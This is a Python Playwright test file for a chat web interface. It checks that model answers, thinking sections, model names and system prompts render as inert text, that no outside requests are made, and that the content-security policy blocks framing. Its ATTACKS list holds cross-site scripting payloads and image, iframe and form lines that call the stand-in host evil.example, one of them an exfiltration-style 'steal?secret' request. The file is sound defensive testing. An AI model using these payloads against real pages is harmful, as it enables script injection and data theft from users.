"""What a model writes, what a file holds, and what a server names can do nothing but be read."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, Request, expect

from tests.web.chat import answers, import_conversation
from tests.web.conftest import Opener

ATTACKS = [
    "<script>document.title = 'owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg onload=document.title='owned'>",
    "[click](javascript:document.title='owned')",
    "[click](JaVaScRiPt:document.title='owned')",
    "[click](  javascript:document.title='owned')",
    "[click](data:text/html,<script>parent.document.title='owned'</script>)",
    "[click](vbscript:msgbox)",
    "<javascript:document.title='owned'>",
    "![x](https://evil.example/steal?secret)",
    "![x](x\"onerror=\"document.title='owned')",
    "[a](https://example.org\"onmouseover=\"document.title='owned')",
    "```\"><script>document.title='owned'</script>\ncode\n```",
    "| <script>document.title='owned'</script> |\n|---|\n| <iframe src=https://evil.example> |",
    "$\\text{<img src=x onerror=document.title='owned'>}$",
    "$$\\href{javascript:document.title='owned'}{x}$$",
    "<style>body{background:url(https://evil.example/)}</style>",
    "<a href=https://evil.example>x</a><form action=https://evil.example><button>y</button></form>",
]


@pytest.mark.parametrize("where", ["content", "thinking"])
def test_no_answer_runs_a_script_or_asks_another_host(open_page: Opener, where: str) -> None:
    page = open_page()
    elsewhere: list[Request] = []
    own = page.url.rstrip("/")
    page.on("request", lambda request: elsewhere.append(request) if not request.url.startswith(own) else None)
    import_conversation(
        page, {"role": "user", "content": "go"}, {"role": "assistant", where: "\n\n".join(ATTACKS), "model": ATTACKS[1]}
    )
    if where == "thinking":
        page.locator(".thinking summary").click()
    answer = answers(page).last
    assert answer.locator("script, img, iframe, form[action], style, svg[onload]").count() == 0
    handlers = "nodes => nodes.flatMap(n => n.getAttributeNames()).filter(name => name.startsWith('on'))"
    assert answer.locator("*").evaluate_all(handlers) == []
    schemes = answer.locator("a").evaluate_all("links => links.map(link => link.protocol)")
    assert schemes
    assert set(schemes) <= {"https:", "http:", "mailto:"}
    for link in answer.get_by_text("click").all():
        link.click()
    page.wait_for_timeout(100)
    assert "owned" not in page.title()
    assert elsewhere == []


def test_names_and_titles_are_text(page: Page) -> None:
    attack = ATTACKS[1]
    page.route(
        "**/api/tags",
        lambda route: route.fulfill(json={"models": [{"name": attack, "size": 1, "details": {"family": attack}}]}),
    )
    page.reload()
    import_conversation(page, {"role": "user", "content": attack}, system=attack)
    page.locator("#open-models").click()
    expect(page.locator("#models")).to_contain_text("<img src=x")
    page.wait_for_timeout(100)
    assert "owned" not in page.title()


def test_a_string_cannot_become_markup_anywhere(page: Page) -> None:
    """The page's policy: even a mistake of ours could not run what a model wrote."""
    raised = page.evaluate(
        "() => { try { document.body.innerHTML = '<b>x</b>'; return '' } catch (e) { return e.name } }"
    )
    assert raised == "TypeError"


def test_the_page_cannot_be_framed_and_loads_nothing_from_elsewhere(page: Page) -> None:
    response = page.goto(page.url)
    assert response is not None
    policy = response.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy
    assert "http" not in policy
    assert "unsafe" not in policy
